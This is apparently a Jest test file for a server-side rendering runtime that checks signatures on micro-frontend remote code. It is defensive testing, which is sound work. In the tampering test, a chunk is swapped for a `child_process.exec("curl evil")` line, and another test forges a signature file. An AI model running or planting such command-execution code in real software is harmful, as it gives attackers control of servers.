import { generateKeyPairSync, type KeyObject } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { REMOTES } from 'shared-contracts/remotes';
import { signFiles } from 'tooling/sign';
import type { SsrRequest, SsrResult } from 'shell/for-web';
import { createSsrRuntime, type ShellServerBundle } from './runtime';
import { INLINE_CSS_MAX_BYTES, serverRemotes } from './remotes';
import { refusedEntryOf, type RemoteTrust } from './signedRemotes';

const REQUEST: Omit<SsrRequest, 'budgetMs'> = { url: '/roadmap', cookies: {}, origin: 'http://localhost:8080', apiBaseUrl: 'http://api', apiHeaders: {} };

const page = (remote: string | null): SsrResult =>
  ({ status: 200, html: '<h1>Roadmap</h1>', locale: 'en', theme: 'light', remote, state: { v: 1, remote, theme: 'light', locale: 'en' } }) as SsrResult;

const manifest = (css: string[]) =>
  JSON.stringify({ metaData: { publicPath: 'auto' }, exposes: [{ name: 'pages', path: './pages', assets: { css: { sync: css, async: [] } } }] });

/** A remote team's signing key (tests): the private half signs, web trusts the public half. */
function teamKey() {
  const { privateKey, publicKey } = generateKeyPairSync('ed25519');
  return { privatePem: privateKey.export({ format: 'pem', type: 'pkcs8' }).toString(), publicKey };
}
const TEAM = teamKey();
const trustOf = (keys: KeyObject[] = [TEAM.publicKey]): RemoteTrust => ({ production: false, keys: new Map(REMOTES.map((r) => [r.name, keys])), warnings: [] });

/**
 * Publishes a remote's server half at `base` in the fake network `files`: its scripts and their signature.json
 * (signed with `privatePem`, the team's key by default).
 */
function publish(files: Map<string, string>, base: string, remote: string, scripts: Record<string, string>, privatePem = TEAM.privatePem) {
  for (const [rel, text] of Object.entries(scripts)) files.set(`${base}/server/${rel}`, text);
  files.set(`${base}/server/signature.json`, signFiles(remote, scripts, privatePem));
}

/** Everything the runtime touches, faked: the bundle, the manifests, the clock and the deadline timer. */
function setup(env: Record<string, string> = {}, trust: RemoteTrust = trustOf(), localRemotes?: ReadonlyMap<string, string>) {
  const clock = { t: 0 };
  const deadlines: (() => void)[] = [];
  const manifests = new Map<string, string>();
  const fetched: string[] = [];
  const logs: string[] = [];
  const refusals: string[] = [];
  let answer: () => Promise<SsrResult> = () => Promise.resolve(page('mfe_blog'));
  const bundle = {
    render: jest.fn((_req: SsrRequest) => answer()),
    registerServerRemotes: jest.fn<void, Parameters<ShellServerBundle['registerServerRemotes']>>(),
    preloadServerRemotes: jest.fn((_names: string[]) => Promise.resolve()),
  };
  const runtime = createSsrRuntime({
    env,
    webPort: 8080,
    log: (m) => logs.push(m),
    trust,
    localRemotes,
    onRemoteRefused: (remote, reason) => refusals.push(`${remote}: ${reason}`),
    loadBundle: () => Promise.resolve(bundle),
    fetchText: (url) => {
      fetched.push(url);
      const text = manifests.get(url);
      return text === undefined ? Promise.reject(new Error('ECONNREFUSED')) : Promise.resolve(text);
    },
    fetchBytes: (url) => {
      fetched.push(url);
      const text = manifests.get(url);
      return text === undefined ? Promise.reject(new Error('ECONNREFUSED')) : Promise.resolve(Buffer.from(text));
    },
    now: () => clock.t,
    timer: () => {
      let fire: () => void = () => undefined;
      const promise = new Promise<void>((resolve) => {
        fire = resolve;
      });
      deadlines.push(fire);
      return { promise, cancel: () => undefined };
    },
  });
  return {
    runtime,
    bundle,
    clock,
    manifests,
    fetched,
    logs,
    refusals,
    setAnswer: (fn: () => Promise<SsrResult>) => {
      answer = fn;
    },
    /** the budget of every render in flight runs out */
    expireBudgets: () => deadlines.splice(0).forEach((fire) => fire()),
  };
}

const settle = () => new Promise((resolve) => setImmediate(resolve));
const fail = (message: string): never => {
  throw new Error(message);
};
const blogManifest = 'http://127.0.0.1:8080/remotes/mfe-blog/mf-manifest.json';

describe('serverRemotes', () => {
  it('reads the same configuration as /remotes.json: own URL, a server-side URL, else web itself', () => {
    const list = serverRemotes(
      { REMOTE_MFE_ORDER_URL: 'http://localhost:8082/', REMOTE_MFE_BLOG_URL: 'https://cdn.example/blog', REMOTE_MFE_BLOG_SERVER_URL: 'http://mfe-blog:8084' },
      'http://127.0.0.1:8080',
    );
    const byName = Object.fromEntries(list.map((r) => [r.name, r]));
    expect(byName.mfe_order).toMatchObject({ serverBase: 'http://localhost:8082', publicBase: 'http://localhost:8082' });
    expect(byName.mfe_blog).toMatchObject({ serverBase: 'http://mfe-blog:8084', publicBase: 'https://cdn.example/blog' });
    expect(byName.mfe_docs).toMatchObject({ serverBase: 'http://127.0.0.1:8080/remotes/mfe-docs', publicBase: null });
  });
});

describe('createSsrRuntime', () => {
  it('without the shell server bundle: off, with one log line, and every render is null', async () => {
    const logs: string[] = [];
    const runtime = createSsrRuntime({ env: {}, webPort: 8080, bundlePath: '/nonexistent/main.js', log: (m) => logs.push(m) });
    expect(await runtime.render(REQUEST)).toBeNull();
    expect(runtime.ready()).toBe(false);
    expect(logs).toEqual([expect.stringContaining('ssr: off')]);
  });

  it('registers a remote once its server code is verified, with an entry answered from the verified bytes, and renders within the budget', async () => {
    const s = setup({ SSR_RENDER_BUDGET_MS: '250', REMOTE_MFE_ORDER_URL: 'http://localhost:8082' });
    s.manifests.set('http://localhost:8082/mf-manifest.json', manifest([]));
    publish(s.manifests, 'http://localhost:8082', 'mfe_order', { 'remoteEntry.js': 'module.exports = "order";', '1.abc.js': 'exports.x = 1;' });
    const result = await s.runtime.render(REQUEST);
    expect(s.runtime.ready()).toBe(true);
    expect(result?.html).toContain('Roadmap');
    expect(s.bundle.render).toHaveBeenCalledWith(expect.objectContaining({ url: '/roadmap', budgetMs: 250 }));
    // only the remote whose code verified is registered (the others' manifests are not reachable here)
    expect(s.bundle.registerServerRemotes).toHaveBeenCalledTimes(1);
    const [verified, options] = s.bundle.registerServerRemotes.mock.calls[0];
    expect(options).toEqual({ force: true });
    expect(verified).toEqual([
      { name: 'mfe_order', entry: expect.stringMatching(/^https:\/\/signed-remotes\.invalid\/mfe_order\/[0-9a-f]{16}\/remoteEntry\.js$/) },
    ]);
    expect(s.bundle.preloadServerRemotes).toHaveBeenCalledWith(['mfe_order']);
    // the federation runtime's fetch of that entry and of a chunk beside it gets the verified bytes, not the network
    const entry = verified[0].entry;
    expect(await (await fetch(entry)).text()).toBe('module.exports = "order";');
    expect(await (await fetch(entry.replace('remoteEntry.js', '1.abc.js'))).text()).toBe('exports.x = 1;');
    await expect(fetch(refusedEntryOf('mfe_blog'))).rejects.toThrow('no verified server code');
    expect(s.logs).toContainEqual(expect.stringMatching(/^ssr: mfe_order server code verified \(key [0-9a-f]{16}, 2 scripts\)$/));
  });

  it("reads web's port at the first render, when web listens", async () => {
    let port: number | null = null;
    const bundle = { render: jest.fn(() => Promise.resolve(page('mfe_blog'))), registerServerRemotes: jest.fn() };
    const fetched: string[] = [];
    const runtime = createSsrRuntime({
      env: {},
      webPort: () => port ?? fail('port read before web listens'),
      trust: trustOf(),
      loadBundle: () => Promise.resolve(bundle),
      fetchText: (url) => {
        fetched.push(url);
        return Promise.reject(new Error('down'));
      },
      log: () => undefined,
    });
    await settle();
    port = 41234;
    await runtime.render(REQUEST);
    expect(fetched).toContain('http://127.0.0.1:41234/remotes/mfe-docs/mf-manifest.json');
  });

  it('answers null when the render outlives the budget, and opens the breaker after three', async () => {
    const s = setup({ SSR_BREAKER_FAILURES: '3', SSR_BREAKER_COOLDOWN_MS: '10000' });
    s.setAnswer(() => new Promise(() => undefined));
    for (let i = 0; i < 3; i++) {
      const pending = s.runtime.render(REQUEST);
      await settle();
      s.expireBudgets();
      expect(await pending).toBeNull();
    }
    expect(s.bundle.render).toHaveBeenCalledTimes(3);
    // the open breaker evicts the remote, so the trial after the cool-down loads it afresh
    expect(s.bundle.registerServerRemotes).toHaveBeenLastCalledWith([{ name: 'mfe_blog', entry: refusedEntryOf('mfe_blog') }], { force: true });
    expect(await s.runtime.render(REQUEST)).toBeNull();
    expect(s.bundle.render).toHaveBeenCalledTimes(3);
    expect(s.logs.some((l) => l.includes('mfe_blog over the 300 ms render budget'))).toBe(true);

    // other remotes' pages are unaffected
    s.setAnswer(() => Promise.resolve(page(null)));
    expect(await s.runtime.render({ ...REQUEST, url: '/' })).not.toBeNull();

    s.clock.t = 10_000;
    s.setAnswer(() => Promise.resolve(page('mfe_blog')));
    expect(await s.runtime.render(REQUEST)).not.toBeNull();
    expect(await s.runtime.render(REQUEST)).not.toBeNull();
  });

  it('counts a render that threw, or left the remote out, as a failure of that remote', async () => {
    const s = setup({ SSR_BREAKER_FAILURES: '2' });
    s.setAnswer(() => Promise.reject(new Error('boom')));
    expect(await s.runtime.render(REQUEST)).toBeNull();
    s.setAnswer(() => Promise.resolve(page(null)));
    // still a page (the slot is its skeleton), but the second failure opens the breaker
    expect(await s.runtime.render(REQUEST)).toMatchObject({ remote: null });
    expect(await s.runtime.render(REQUEST)).toBeNull();
    expect(s.logs.some((l) => l.includes('mfe_blog render failed (boom)'))).toBe(true);
  });

  it('a page web knows does not exist (notFound) is the 404 page without its remote: never a failure of that remote', async () => {
    const s = setup({ SSR_BREAKER_FAILURES: '2' });
    s.setAnswer(() => Promise.resolve({ ...page(null), status: 404 }));
    const missing = { ...REQUEST, url: '/blog/no-such-post', notFound: true };
    for (let i = 0; i < 3; i++) expect(await s.runtime.render(missing)).toMatchObject({ status: 404, remote: null });
    s.setAnswer(() => Promise.resolve(page('mfe_blog')));
    expect(await s.runtime.render(REQUEST)).toMatchObject({ remote: 'mfe_blog' });
    expect(s.logs.filter((l) => /mfe_blog (render failed|did not load|over the)/.test(l))).toEqual([]);
  });

  it('checks the manifests at most every SSR_REMOTE_POLL_MS and re-registers only a remote whose manifest changed', async () => {
    const s = setup({ SSR_REMOTE_POLL_MS: '5000' });
    const base = 'http://127.0.0.1:8080/remotes/mfe-blog';
    s.manifests.set(blogManifest, manifest(['assets/1.aaa.css']));
    publish(s.manifests, base, 'mfe_blog', { 'remoteEntry.js': 'module.exports = 1;' });
    await s.runtime.render(REQUEST);
    expect(s.fetched.filter((u) => u === blogManifest)).toHaveLength(1);
    expect(s.bundle.registerServerRemotes).toHaveBeenCalledTimes(1);
    const first = s.bundle.registerServerRemotes.mock.calls[0][0][0].entry;
    expect(s.runtime.cssFor('mfe_blog')).toEqual(['/remotes/mfe-blog/assets/1.aaa.css']);
    expect(s.runtime.cssFor('mfe_blog', 'https://ex.example')).toEqual(['https://ex.example/remotes/mfe-blog/assets/1.aaa.css']);

    s.manifests.set(blogManifest, manifest(['assets/1.bbb.css']));
    publish(s.manifests, base, 'mfe_blog', { 'remoteEntry.js': 'module.exports = 2;' });
    s.clock.t = 4999;
    await s.runtime.render(REQUEST);
    await settle();
    expect(s.fetched.filter((u) => u === blogManifest)).toHaveLength(1);
    expect(s.bundle.registerServerRemotes).toHaveBeenCalledTimes(1);

    s.clock.t = 5000;
    await s.runtime.render(REQUEST);
    await settle();
    expect(s.fetched.filter((u) => u === blogManifest)).toHaveLength(2);
    // the new code, verified again, under a new entry
    const [[{ entry: second }], options] = s.bundle.registerServerRemotes.mock.calls[1];
    expect(options).toEqual({ force: true });
    expect(second).not.toBe(first);
    expect(await (await fetch(second)).text()).toBe('module.exports = 2;');
    await expect(fetch(first)).rejects.toThrow();
    expect(s.bundle.preloadServerRemotes).toHaveBeenLastCalledWith(['mfe_blog']);
    expect(s.runtime.cssFor('mfe_blog')).toEqual(['/remotes/mfe-blog/assets/1.bbb.css']);
    expect(s.logs.some((l) => l.includes('redeployed mfe_blog'))).toBe(true);
  });

  it('a remote with its own URL gets absolute stylesheet URLs', async () => {
    const s = setup({ REMOTE_MFE_BLOG_URL: 'https://cdn.example/blog/' });
    s.manifests.set('https://cdn.example/blog/mf-manifest.json', manifest(['assets/1.aaa.css']));
    await s.runtime.render(REQUEST);
    expect(s.runtime.cssFor('mfe_blog', 'https://ex.example')).toEqual(['https://cdn.example/blog/assets/1.aaa.css']);
    expect(s.runtime.cssFor('mfe_order')).toEqual([]);
  });

  it('hands a small stylesheet over with its text (inlined in the head), fetched once per file; a large or missing one is only linked', async () => {
    const s = setup({ SSR_REMOTE_POLL_MS: '5000' });
    const base = 'http://127.0.0.1:8080/remotes/mfe-blog/';
    s.manifests.set(blogManifest, manifest(['assets/1.aaa.css', 'assets/2.big.css', 'assets/3.gone.css']));
    s.manifests.set(`${base}assets/1.aaa.css`, '.a{color:red}');
    s.manifests.set(`${base}assets/2.big.css`, 'x'.repeat(INLINE_CSS_MAX_BYTES + 1));
    await s.runtime.render(REQUEST);
    expect(s.runtime.stylesFor('mfe_blog', 'https://ex.example')).toEqual([
      { href: 'https://ex.example/remotes/mfe-blog/assets/1.aaa.css', text: '.a{color:red}' },
      { href: 'https://ex.example/remotes/mfe-blog/assets/2.big.css', text: undefined },
      { href: 'https://ex.example/remotes/mfe-blog/assets/3.gone.css', text: undefined },
    ]);
    // the same manifest at the next check: no stylesheet is fetched again
    s.clock.t = 5000;
    await s.runtime.render(REQUEST);
    await settle();
    expect(s.fetched.filter((u) => u.endsWith('1.aaa.css'))).toHaveLength(1);
    // a redeploy with a new file: its text replaces the old one
    s.manifests.set(blogManifest, manifest(['assets/1.bbb.css']));
    s.manifests.set(`${base}assets/1.bbb.css`, '.b{color:blue}');
    s.clock.t = 10_000;
    await s.runtime.render(REQUEST);
    await settle();
    expect(s.runtime.stylesFor('mfe_blog')).toEqual([{ href: '/remotes/mfe-blog/assets/1.bbb.css', text: '.b{color:blue}' }]);
  });

  it("preloads: the remote's entry and its ./pages chunks, where the federation runtime will ask for them", async () => {
    const s = setup({ REMOTE_MFE_BLOG_URL: 'https://cdn.example/blog/' });
    s.manifests.set(
      'https://cdn.example/blog/mf-manifest.json',
      JSON.stringify({
        metaData: { publicPath: 'auto', remoteEntry: { name: 'remoteEntry.js', path: '' } },
        exposes: [{ name: 'pages', path: './pages', assets: { js: { sync: ['assets/61.a.js', 'assets/__federation_expose_pages.b.js'] } } }],
      }),
    );
    await s.runtime.render(REQUEST);
    expect(s.runtime.scriptsFor('mfe_blog', 'https://ex.example')).toEqual([
      'https://cdn.example/blog/remoteEntry.js',
      'https://cdn.example/blog/assets/61.a.js',
      'https://cdn.example/blog/assets/__federation_expose_pages.b.js',
    ]);
    expect(s.runtime.scriptsFor('mfe_order')).toEqual([]);
  });
});

describe('signed server code (issue 24)', () => {
  const base = 'http://127.0.0.1:8080/remotes/mfe-blog';
  const SKELETON = '<div data-testid="remote-fallback"></div>';
  /**
   * A bundle that loads remotes as the federation runtime does: the registered entry fetched with the global fetch
   * and run (here: its text is the page's markup); an entry that does not load leaves the slot's skeleton.
   */
  function federated(env: Record<string, string> = {}, trust = trustOf(), localRemotes?: ReadonlyMap<string, string>) {
    const s = setup({ SSR_REMOTE_POLL_MS: '5000', ...env }, trust, localRemotes);
    const registered = new Map<string, string>();
    s.bundle.registerServerRemotes.mockImplementation((list) => {
      for (const r of list) registered.set(r.name, r.entry);
    });
    s.setAnswer(async () => {
      try {
        const html = await (await fetch(registered.get('mfe_blog') ?? 'https://nowhere.invalid/')).text();
        return { ...page('mfe_blog'), html };
      } catch {
        return { ...page(null), html: SKELETON };
      }
    });
    s.manifests.set(blogManifest, manifest([]));
    return s;
  }
  const BLOG = { 'remoteEntry.js': '<h1 data-remote="mfe_blog">Roadmap</h1>', '7.aaa.js': 'exports.chunk = 7;' };

  it('a remote whose signature verifies is run: its page is server-rendered from the verified bytes', async () => {
    const s = federated();
    publish(s.manifests, base, 'mfe_blog', BLOG);
    expect(await s.runtime.render(REQUEST)).toMatchObject({ remote: 'mfe_blog', html: BLOG['remoteEntry.js'] });
    expect(s.refusals).toEqual([]);
  });

  it("a remote web serves itself is read from its dist on disk (web's /remotes/ never hands out server code), and verified the same", async () => {
    const dist = mkdtempSync(path.join(os.tmpdir(), 'web-local-remote-'));
    try {
      const published = new Map<string, string>();
      publish(published, base, 'mfe_blog', BLOG);
      published.set(blogManifest, manifest([]));
      for (const [url, text] of published) {
        const file = path.join(dist, url.slice(`${base}/`.length));
        mkdirSync(path.dirname(file), { recursive: true });
        writeFileSync(file, text);
      }
      const s = federated({}, trustOf(), new Map([['mfe-blog', dist]]));
      s.manifests.clear();
      expect(await s.runtime.render(REQUEST)).toMatchObject({ remote: 'mfe_blog', html: BLOG['remoteEntry.js'] });
      expect(s.fetched.filter((u) => u.startsWith(base))).toEqual([]);
      expect(s.refusals).toEqual([]);
    } finally {
      rmSync(dist, { recursive: true, force: true });
    }
  });

  it('a remote signed with another key is not run: the skeleton in the server HTML, one log line, the metric, and no breaker failure', async () => {
    const s = federated({ SSR_BREAKER_FAILURES: '2' });
    publish(s.manifests, base, 'mfe_blog', BLOG, teamKey().privatePem);
    for (let i = 0; i < 4; i++) {
      s.clock.t = i * 5000;
      const result = await s.runtime.render(REQUEST);
      await settle();
      // still the shell's server render (not null: the breaker never opens), with the slot's skeleton
      expect(result).toMatchObject({ remote: null, html: SKELETON });
    }
    expect(s.refusals).toEqual([expect.stringContaining('mfe_blog: the signature does not verify')]);
    expect(s.logs.filter((l) => l.includes('mfe_blog server code refused'))).toEqual([
      expect.stringMatching(/^ssr: mfe_blog server code refused: the signature does not verify .*; its pages are rendered by the browser$/),
    ]);
    // nothing of the remote's scripts was even fetched
    expect(s.fetched.filter((u) => u.endsWith('.js'))).toEqual([]);
  });

  it('a chunk changed after signing is refused; once the signed bytes are back the next check runs the remote', async () => {
    const s = federated();
    publish(s.manifests, base, 'mfe_blog', BLOG);
    s.manifests.set(`${base}/server/7.aaa.js`, 'require("child_process").exec("curl evil")');
    expect(await s.runtime.render(REQUEST)).toMatchObject({ remote: null, html: SKELETON });
    expect(s.refusals).toEqual(['mfe_blog: server/7.aaa.js does not match its signature']);

    s.manifests.set(`${base}/server/7.aaa.js`, BLOG['7.aaa.js']);
    s.clock.t = 5000;
    await s.runtime.render(REQUEST);
    await settle();
    expect(await s.runtime.render(REQUEST)).toMatchObject({ remote: 'mfe_blog', html: BLOG['remoteEntry.js'] });
  });

  it('a redeploy that does not verify replaces the running code: the next renders get the skeleton', async () => {
    const s = federated();
    publish(s.manifests, base, 'mfe_blog', BLOG);
    expect(await s.runtime.render(REQUEST)).toMatchObject({ remote: 'mfe_blog' });
    // the remote's host now serves other code with the old signature.json: the manifest changed, so it is checked again
    s.manifests.set(blogManifest, manifest(['assets/2.css']));
    s.manifests.set(`${base}/server/remoteEntry.js`, '<h1>owned</h1>');
    const forged = JSON.parse(s.manifests.get(`${base}/server/signature.json`) ?? '{}');
    forged.payload = Buffer.from(JSON.stringify({ remote: 'mfe_blog', files: { 'remoteEntry.js': '0'.repeat(64) } })).toString('base64');
    s.manifests.set(`${base}/server/signature.json`, JSON.stringify(forged));
    s.clock.t = 5000;
    await s.runtime.render(REQUEST);
    await settle();
    expect(await s.runtime.render(REQUEST)).toMatchObject({ remote: null, html: SKELETON });
    expect(s.logs).toContainEqual(expect.stringContaining('ssr: mfe_blog server code refused: the signature does not verify'));
  });

  it('a remote without any trusted key is refused', async () => {
    const s = federated({}, trustOf([]));
    publish(s.manifests, base, 'mfe_blog', BLOG);
    expect(await s.runtime.render(REQUEST)).toMatchObject({ remote: null, html: SKELETON });
    expect(s.refusals).toEqual(['mfe_blog: no public key is trusted for it']);
  });
});
